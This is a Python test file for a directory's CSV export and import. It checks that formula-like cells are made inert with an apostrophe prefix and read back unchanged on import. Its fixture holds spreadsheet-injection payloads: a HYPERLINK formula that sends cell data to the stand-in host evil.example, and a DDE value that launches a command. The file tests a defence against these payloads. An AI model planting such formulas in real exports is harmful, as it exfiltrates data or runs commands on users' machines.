"""L2: the spreadsheet export makes formula-like cells inert, and its import reads them back as they were."""

from __future__ import annotations

import csv
import io
from contextlib import closing

from directory.staff.bulk.export import IMPORT_MAPPING, select_services, to_csv
from directory.staff.bulk.formulas import guard, unguard
from directory.staff.bulk.importer import ImportSettings, run_import
from directory.store import Source

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&B2, "Open")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fees_description": "-2+3",
    "eligibility_description": "+1 for everyone",
}


def test_formula_cells_are_prefixed_in_the_sheet_and_read_back_unchanged(demo_instance):
    with closing(demo_instance.directory()) as db:
        service_id = db.execute("SELECT id FROM services ORDER BY id LIMIT 1").fetchone()[0]
        db.execute(f"UPDATE services SET {', '.join(f'{k} = ?' for k in FORMULAS)} WHERE id = ?",
                   [*FORMULAS.values(), service_id])  # fmt: skip
        sheet = to_csv(select_services(db))
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(sheet))}
        for column, value in FORMULAS.items():
            assert rows[service_id][column] == "'" + value, column
        phones = [row["phones"] for row in rows.values() if row["phones"]]
        assert phones and all(p.startswith("'+") for p in phones if p.lstrip("'").startswith("+"))
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())

        report = run_import(db, sheet.encode(), "all.csv", IMPORT_MAPPING, ImportSettings(Source("staff:admin")),
                            apply=True)  # fmt: skip
        assert report.error is None
        assert report.counts["unchanged"] == len(rows) and report.counts["updated"] == 0, report.counts
        stored = db.execute(f"SELECT {', '.join(FORMULAS)} FROM services WHERE id = ?", [service_id]).fetchone()
    assert dict(zip(FORMULAS, stored)) == FORMULAS


def test_only_a_guard_the_export_could_have_added_is_taken_off():
    for cell in ("=1", "+44", "-", "@x", "\tx", "\rx"):
        assert guard(cell) == "'" + cell and unguard(guard(cell)) == cell
    for cell in ("'tis the season", "plain", "", "'", "'a=b"):
        assert guard(cell) == cell and unguard(cell) == cell
